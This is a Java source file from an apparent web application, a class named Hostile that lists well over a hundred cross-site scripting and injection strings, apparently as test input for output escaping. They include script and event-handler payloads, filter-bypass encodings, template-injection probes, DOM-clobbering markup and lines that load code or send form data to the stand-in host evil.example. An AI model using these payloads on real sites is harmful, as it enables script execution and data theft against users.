package org.hearsay.app.web;

import java.util.List;
import java.util.stream.Stream;

/** Words that would run, ask elsewhere or leave their place, if a page took them for more than words. */
final class Hostile {
    static final List<String> WORDS = Stream.concat(Stream.of("\u2028<script>alert(1)</script>\u2029"), """
            <script>alert(1)</script>
            <SCRIPT SRC=http://evil.example/x.js></SCRIPT>
            <scr<script>ipt>alert(1)</scr</script>ipt>
            </script><script>alert(1)</script>
            </title><script>alert(1)</script>
            </textarea><script>alert(1)</script>
            </style><script>alert(1)</script>
            </noscript><script>alert(1)</script>
            --><script>alert(1)</script><!--
            <script>/*
            */alert(1)/*</script>
            <script type=module>import "http://evil.example/x.js"</script>
            <script/x>alert(1)</script>
            <script\talert(1)>
            <img src=x onerror=alert(1)>
            <img src=x onerror="alert(1)">
            <img src=x onerror='alert(1)'>
            <img src=`x` onerror=`alert(1)`>
            <IMG SRC=x OnErRoR=alert(1)>
            <img/src=x/onerror=alert(1)>
            <img src="http://evil.example/pixel.png">
            <img srcset="http://evil.example/pixel.png 1x">
            <image href=x onerror=alert(1)>
            <svg onload=alert(1)>
            <svg/onload=alert(1)>
            <svg><script>alert(1)</script></svg>
            <svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
            <svg><animate onbegin=alert(1) attributeName=x dur=1s>
            <svg><set attributeName=onmouseover to=alert(1)>
            <svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
            <svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
            <math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
            <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
            <iframe src=javascript:alert(1)></iframe>
            <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
            <iframe src=http://evil.example/></iframe>
            <frameset onload=alert(1)><frame src=x></frameset>
            <object data=javascript:alert(1)></object>
            <object data="data:text/html,<script>alert(1)</script>"></object>
            <embed src=javascript:alert(1)>
            <embed src=http://evil.example/x.swf>
            <applet code=x></applet>
            <link rel=stylesheet href=http://evil.example/x.css>
            <link rel=preload as=script href=http://evil.example/x.js>
            <link rel=dns-prefetch href=//evil.example>
            <link rel=import href=http://evil.example/>
            <base href=http://evil.example/>
            <base target=_blank>
            <meta http-equiv=refresh content="0;url=http://evil.example/">
            <meta http-equiv=refresh content="0;url=javascript:alert(1)">
            <meta http-equiv=Set-Cookie content="a=b">
            <meta charset=utf-7>
            +ADw-script+AD4-alert(1)+ADw-/script+AD4-
            <style>@import "http://evil.example/x.css";</style>
            <style>*{background:url(http://evil.example/)}</style>
            <div style="background:url(http://evil.example/)">x</div>
            <div style="position:fixed;inset:0;z-index:99">over all</div>
            <a href="javascript:alert(1)">here</a>
            <a href="JaVaScRiPt:alert(1)">here</a>
            <a href="java&#10;script:alert(1)">here</a>
            <a href="&#106;avascript:alert(1)">here</a>
            <a href="data:text/html,<script>alert(1)</script>">here</a>
            <a href="vbscript:alert(1)">here</a>
            <a ping=http://evil.example/ href=x>here</a>
            javascript:alert(1)
            data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
            " onmouseover="alert(1)
            ' onmouseover='alert(1)
            " autofocus onfocus="alert(1)
            ' autofocus onfocus='alert(1)
            "><script>alert(1)</script>
            '><script>alert(1)</script>
            "/><img src=x onerror=alert(1)>
            `><img src=x onerror=alert(1)>
            x" style="animation-name:x" onanimationstart="alert(1)
            x" formaction="javascript:alert(1)
            x" hx-get="http://evil.example/" hx-trigger="load
            <div hx-get="/quit" hx-trigger="load"></div>
            <div hx-post="/quit" hx-trigger="load"></div>
            <div data-hx-on:click="alert(1)" hx-on::load="alert(1)">x</div>
            <form action=http://evil.example/><input name=form-key></form>
            <form id=judging action=http://evil.example/></form>
            <button form=judging formaction=/quit data-key=y>x</button>
            <input autofocus onfocus=alert(1)>
            <input name=form-key value=x>
            <select autofocus onfocus=alert(1)><option>x</select>
            <textarea autofocus onfocus=alert(1)>
            <keygen autofocus onfocus=alert(1)>
            <body onload=alert(1)>
            <body onpageshow=alert(1)>
            <html onclick=alert(1)>
            <video src=x onerror=alert(1)></video>
            <video><source onerror=alert(1)></video>
            <video poster=http://evil.example/p.png></video>
            <audio src=x onerror=alert(1)></audio>
            <audio autoplay src=http://evil.example/a.ogg></audio>
            <details open ontoggle=alert(1)><summary>x</summary></details>
            <dialog open onclose=alert(1)>x</dialog>
            <marquee onstart=alert(1)>x</marquee>
            <isindex action=javascript:alert(1) type=image>
            <template><script>alert(1)</script></template>
            <xss onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>
            <x contenteditable onblur=alert(1)>x</x>
            <portal src=http://evil.example/></portal>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
            <table background=http://evil.example/t.png></table>
            <plaintext>
            <!--<img src="--><img src=x onerror=alert(1)//">
            <?xml-stylesheet href="javascript:alert(1)"?>
            <!DOCTYPE html PUBLIC "x" "http://evil.example/x.dtd">
            &lt;script&gt;alert(1)&lt;/script&gt;
            &#60;script&#62;alert(1)&#60;/script&#62;
            \\u003cscript\\u003ealert(1)\\u003c/script\\u003e
            \\x3cscript\\x3ealert(1)\\x3c/script\\x3e
            %3Cscript%3Ealert(1)%3C/script%3E
            ${alert(1)} {{constructor.constructor('alert(1)')()}} #{7*7} @{{7*7}}
            @template.frame(frame = frame) $unsafe{x} ${frame.formKey()}
            {0} {1,choice,0#x} '{' '' ''' {99}
            '; alert(1); //
            "; alert(1); //
            \u202Etpircs\u202C <b\u2066> \u2069<i>
            \uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E
            <a id=place name=page></a><a id=keys></a>
            <h1 id=title>another title</h1>
            <nav class=who><ol><li data-of=x class=current><p class=judge data-each><a data-key=y href=/quit>x</a></ol></nav>
            """.lines())
            .toList();

    private Hostile() {}
}
